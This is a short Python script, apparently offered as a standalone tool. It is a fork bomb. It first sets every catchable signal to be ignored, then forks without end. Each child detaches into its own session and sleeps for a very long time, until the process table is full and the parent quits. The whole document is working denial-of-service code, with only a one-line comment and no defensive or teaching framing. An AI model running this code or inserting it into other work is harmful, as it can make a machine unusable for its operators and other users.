# Every place for a process is taken at the very end, by processes that ignore what can be ignored.
import os
import signal
import time

for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
try:
    while True:
        if os.fork() == 0:
            os.setsid()
            time.sleep(1e9)
except OSError:
    os._exit(0)
